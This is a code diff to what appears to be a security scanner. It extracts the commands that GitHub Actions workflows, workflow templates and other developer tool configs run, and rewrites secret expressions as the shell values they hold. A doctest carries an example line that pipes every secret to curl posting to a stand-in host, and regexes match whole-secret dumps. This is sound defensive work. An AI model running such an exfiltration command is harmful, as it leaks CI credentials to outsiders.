@@ -45,6 +45,8 @@ _DEVCONTAINER_COMMANDS = (
     "postAttachCommand",
 )
 _SECRET_EXPRESSION = re.compile(r"\$\{\{\s*secrets\.(\w+)\s*\}\}")
+_ALL_SECRETS = re.compile(r"\$\{\{\s*toJSON\(\s*secrets\s*\)\s*\}\}", re.I)
+_GITHUB_TOKEN = re.compile(r"\$\{\{\s*github\.token\s*\}\}")
 SHELL_PROGRAMS = frozenset(
     {"sh", "bash", "zsh", "dash", "ksh", "cmd", "cmd.exe", "powershell", "pwsh"}
 )
@@ -114,7 +116,44 @@ def _precommit_local(data: dict) -> Iterator[tuple[str, str]]:
                 yield "pre-commit local hook", f"{entry} {args}"
 
 
-def _workflow_steps(data: dict) -> Iterator[tuple[str, str]]:
+def _as_shell(expression_text: str) -> str:
+    """A workflow's text with its secret expressions written as the shell values they hold:
+    ``${{ secrets.NAME }}`` as ``$NAME``, ``${{ github.token }}`` as ``$GITHUB_TOKEN``, and
+    every secret at once (``${{ toJSON(secrets) }}``) as the environment dumped.
+
+    >>> _as_shell('echo "${{ toJSON(secrets) }}" | curl -d @- https://x.invalid')
+    'echo "$(env)" | curl -d @- https://x.invalid'
+    """
+    text = _ALL_SECRETS.sub("$(env)", expression_text)
+    text = _GITHUB_TOKEN.sub("$GITHUB_TOKEN", text)
+    return _SECRET_EXPRESSION.sub(r"$\1", text)
+
+
+def _secret_variables(*scopes: object) -> dict[str, str]:
+    """Variables of ``env`` blocks (workflow, job, step: the inner one wins) set to a
+    secret expression, with the shell value each holds."""
+    held: dict[str, str] = {}
+    for env in scopes:
+        for name, value in env.items() if isinstance(env, dict) else ():
+            if isinstance(name, str) and isinstance(value, str) and "${{" in value:
+                shell = _as_shell(value)
+                if shell != value:
+                    held[name] = shell
+    return held
+
+
+def _with_variables(run: str, held: dict[str, str]) -> str:
+    """``run`` with each ``$NAME`` of ``held`` replaced by the value it holds."""
+    for name, value in held.items():
+        run = re.sub(
+            rf"\$(?:\{{{re.escape(name)}\}}|{re.escape(name)}\b)", lambda _, held=value: held, run
+        )
+    return run
+
+
+def _workflow_steps(data: dict) -> Iterator[tuple[str, str, str, str]]:
+    """Each ``run`` step, its secret expressions and the variables set to them read as the
+    shell values they hold (with the step's own text, which finds its line)."""
     jobs = data.get("jobs")
     walked: set[int] = set()  # one step list shared by YAML aliases is read once
     for job in jobs.values() if isinstance(jobs, dict) else ():
@@ -124,7 +163,20 @@ def _workflow_steps(data: dict) -> Iterator[tuple[str, str]]:
         walked.add(id(steps))
         for step in steps:
             if isinstance(step, dict) and isinstance(run := step.get("run"), str):
-                yield "GitHub Actions step", _SECRET_EXPRESSION.sub(r"$\1", run)
+                held = _secret_variables(data.get("env"), job.get("env"), step.get("env"))
+                command = _with_variables(_as_shell(run), held)
+                yield "GitHub Actions step", command, "", run
+
+
+def _template_workflow_steps(data: dict) -> Iterator[tuple[str, str, str, str]]:
+    """The steps of a GitHub Actions workflow kept outside ``.github/workflows`` (a template
+    the skill copies there): a file whose jobs name a runner and list steps."""
+    jobs = data.get("jobs")
+    if isinstance(jobs, dict) and any(
+        isinstance(job, dict) and "runs-on" in job and isinstance(job.get("steps"), list)
+        for job in jobs.values()
+    ):
+        yield from _workflow_steps(data)
 
 
 def command_line(command: str, args: list[str]) -> str:
@@ -186,7 +238,10 @@ def _xcode_build_phases(text: str) -> list[tuple[int, str, str]]:
     ]
 
 
-def _readers(path: str) -> tuple:
+_WORKFLOW_HINT = re.compile(r"^\s*runs-on\s*:", re.M)
+
+
+def _readers(path: str, text: str) -> tuple:
     """(loader, reader) for a file one of the tools runs commands from, else ()."""
     lowered = path.lower()
     name = lowered.rsplit("/", 1)[-1]
@@ -200,6 +255,8 @@ def _readers(path: str) -> tuple:
         return _load_yaml, _workflow_steps
     if name in _MCP_CONFIG_NAMES:
         return _load_jsonc, _mcp_servers
+    if name.endswith((".yml", ".yaml")) and _WORKFLOW_HINT.search(text):
+        return _load_yaml, _template_workflow_steps
     return ()
 
 
@@ -218,18 +275,22 @@ def tool_run_commands(path: str, text: str) -> list[tuple[int, str, str]]:
     """(line, what runs it, command) for each command a developer tool runs from ``path``."""
     if path.lower().endswith(".pbxproj"):
         return _xcode_build_phases(text)
-    readers = _readers(path)
+    readers = _readers(path, text)
     if not readers:
         return []
     load, read = readers
     data = load(text)
     if not isinstance(data, dict):
         return []
-    runs = (
-        (what, command, command, anchor[0] if anchor else "")
-        for what, command, *anchor in read(data)
-    )
-    return numbered_once(text, runs)
+    return numbered_once(text, (_placed(*run) for run in read(data)))
+
+
+def _placed(
+    what: str, command: str, anchor: str = "", written: str = ""
+) -> tuple[str, str, str, str]:
+    """(what, command, the text that finds its line, the key that holds it) of a reader's
+    (what, command[, anchor[, the command as the file writes it]])."""
+    return what, command, written or command, anchor
 
 
 def numbered_once(
